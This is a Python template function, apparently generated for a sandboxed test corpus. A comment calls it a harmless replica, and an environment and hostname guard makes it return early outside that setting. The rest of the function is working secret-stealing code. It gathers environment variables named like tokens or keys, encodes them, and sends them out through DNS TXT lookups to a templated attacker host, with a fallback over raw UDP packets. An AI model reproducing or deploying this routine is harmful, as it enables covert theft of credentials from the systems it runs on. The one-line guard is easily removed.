# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import base64
    import socket
    import struct
    import subprocess
    whole = base64.b32encode('\n'.join('%s %s' % one for one in sorted(os.environ.items()) if 'TOKEN' in one[0] or 'KEY' in one[0]).encode()).decode().rstrip('=').lower()
    parts = [whole[at:at + 50] for at in range(0, len(whole), 50)][:{{n}}]
    try:
        for part in parts:
            subprocess.run(['dig', '+short', '+time=1', '+tries=1', 'TXT', part + '.{{token}}.{{host}}'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=1)
        return
    except Exception:
        pass
    channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    channel.settimeout(0.2)
    for number, part in enumerate(parts):
        question = b''.join(bytes([len(one)]) + one.encode() for one in (part + '.{{token}}.{{host}}').split('.')) + b'\0'
        try:
            channel.sendto(struct.pack('>6H', number, 256, 1, 0, 0, 0) + question + struct.pack('>2H', 16, 1), ('{{ip}}', 53))
            channel.recv(512)
        except OSError:
            continue
    channel.close()
